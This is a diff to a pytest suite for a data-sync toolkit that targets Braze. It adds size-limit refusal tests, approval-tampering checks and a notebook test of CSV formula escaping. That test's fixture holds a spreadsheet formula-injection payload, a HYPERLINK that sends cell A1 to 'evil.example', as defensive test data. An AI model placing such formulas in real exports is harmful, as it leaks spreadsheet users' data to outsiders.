@@ -11,7 +11,6 @@ from __future__ import annotations
 
 import gzip
 import json
-import os
 import random
 import re
 import time
@@ -91,6 +90,17 @@ def mapping(text: "str | bytes") -> Callable[[Path], dict]:
 def _million_columns(tmp: Path) -> dict:
     header = ",".join(f"c{i}" for i in range(1_000_000))
     return {"export": w(tmp / "wide.csv", "key,user_id," + header + "\nuse_1,u1\n"), "load": {}}
+
+
+def _wide(tmp: Path) -> dict:
+    n = 100_000
+    return {"export": w(tmp / "wide.csv", "key,user_id," + ",".join(f"c{i}" for i in range(n))
+                        + "\nuse_1,u1," + ",".join("1" for _ in range(n)) + "\n"), "load": {}}
+
+
+def _many_keys(tmp: Path) -> dict:
+    lines = (json.dumps(_msg("u1", f"k{i}", i)) + "\n" for i in range(20_000))
+    return {"export": w(tmp / "events.ndjson", "".join(lines)), "load": {}}
 
 
 def _huge_line(tmp: Path) -> dict:
@@ -177,6 +187,8 @@ REFUSED: list[Refused] = [
             where={"file": True}),
     Refused("million_column_header", _million_columns, text="longer than|too long|too many",
             where={"file": True}),
+    Refused("hundred_thousand_columns", _wide, text="too many columns|at most",
+            where={"file": True, "line": 1}),
     Refused("header_only", export("shoppers.csv", "key,user_id,email\n"), text="no rows",
             where={"file": True, "line": 2}),
     Refused("duplicate_columns", export("shoppers.csv", "key,user_id,Email,email\nuse_1,u1,a,b\n"),
@@ -238,6 +250,8 @@ REFUSED: list[Refused] = [
                                                    + '{"x": ' + "[" * 100_000 + "]" * 100_000
                                                    + "}\n"),
             text="nest|deep|invalid JSON", where={"file": True, "line": 2}),
+    Refused("ndjson_20k_computation_keys", _many_keys, text="too many computations",
+            where={"file": True}),
     Refused("ndjson_huge_single_line", _huge_ndjson_line, text="invalid JSON|cut off",
             where={"file": True, "line": 1}),
     # -- mapping files
@@ -284,10 +298,6 @@ REFUSED: list[Refused] = [
     Refused("yaml_path_is_a_directory", _mapping_dir, MappingError, "directory|read|file",
             {"file": True}),
 ]
-
-
-def _fake_key() -> str:
-    return "sk-not-a-secret-" + "0" * 16
 
 
 def run_pipeline(inputs: dict, sb: BrazeSandbox, tmp: Path) -> Any:
@@ -402,9 +412,15 @@ PLAN_EDITS: list[tuple[str, Callable[[dict], Any], type, str]] = [
      "changed"),
     ("ledger_version_changed", lambda d: d.update(ledger_version=d["ledger_version"] + 7),
      PlanAltered, "changed"),
-    ("workspace_retargeted", _retarget, PlanAltered, "changed"),
+    ("workspace_retargeted", _retarget, PlanAltered, "approval record was edited"),
     ("approval_removed", lambda d: d.update(approval=None), PlanNotApproved, "not approved"),
-    ("approval_expired", _expired, PlanExpired, "expired"),
+    # the approval record is sealed: moving its expiry either way by hand is an alteration
+    ("approval_expiry_shortened", _expired, PlanAltered, "approval record was edited"),
+    ("approval_expiry_extended",
+     lambda d: d["approval"].update(expires_at="2099-01-01T00:00:00+00:00"), PlanAltered,
+     "approval record was edited"),
+    ("approver_renamed", lambda d: d["approval"].update(by="someone else"), PlanAltered,
+     "approval record was edited"),
     ("op_kind_unknown", lambda d: d["operations"]["op"].__setitem__(0, "purchase"), PlanError,
      "operations.op"),
     ("value_not_json", lambda d: d["operations"]["value"].__setitem__(0, "{not json"), PlanError,
@@ -500,8 +516,7 @@ def test_256_char_values_are_findings_and_left_out(tmp_path):
     long = "x" * 256
     path = w(tmp_path / "shoppers.csv",
              f"key,user_id,note\nuse_1,u1,{long}\nuse_2,u2,{'y' * 255}\nuse_3,u3,short\n")
-    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers",
-                                        )
+    exp, p, report, profiles, _ = _sync(tmp_path, path, computation_key="shoppers")
     assert [(f.row, f.column) for f in exp.findings.of("long_string")] == [(1, "note")]
     assert long not in _sent_values(p, "note")
     assert sorted(_sent_values(p, "note")) == sorted(["y" * 255, "short"])
@@ -707,3 +722,33 @@ def test_hand_edited_report_is_refused_before_reading_braze(tmp_path, edit):
         assert len(sb.request_log()) == before, "a refused report must read nothing from Braze"
     assert isinstance(error, ToolkitError), f"{type(error).__name__}: {error}"
     assert error.file == str(path) and seconds < MAX_SECONDS
+
+
+@pytest.mark.slow
+def test_scheduled_notebook_csv_reports_flag_formula_text(tmp_path):
+    """Notebook 04 (the scheduled run, papermill) writes the same CSV tables: they must not
+    hand formula text to a spreadsheet either."""
+    import csv
+
+    import papermill
+
+    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    header = "key,user_id," + '"' + name.replace('"', '""') + '"'
+    rows = "".join(f'use_{i},u{i},"{v.replace(chr(34), chr(34) * 2)}"\n'
+                   for i, v in enumerate(INJECTIONS[:4]))
+    export_path = w(tmp_path / "vip_customer.csv", header + "\n" + rows)  # the notebook's audience
+    mapping_path = Mapping.from_export(toolkit.load(export_path)).save(tmp_path / "mapping.yml")
+    notebook = Path(__file__).resolve().parents[2] / "notebooks" / "04_scheduled_sync.ipynb"
+    reports = tmp_path / "reports"
+    papermill.execute_notebook(str(notebook), str(tmp_path / "out.ipynb"), cwd=str(tmp_path),
+                               progress_bar=False, kernel_name="python3", parameters={
+                                   "export_path": str(export_path),
+                                   "mapping_path": str(mapping_path),
+                                   "report_dir": str(reports)})
+    live = []
+    for p in sorted(reports.glob("*.csv")):
+        with open(p, newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                live += [(p.name, cell) for cell in row if cell.startswith(FORMULA_START)]
+    assert sorted(reports.glob("*.csv")), "the notebook wrote no CSV report"
+    assert not live, f"CSV cells a spreadsheet would evaluate: {live[:3]}"
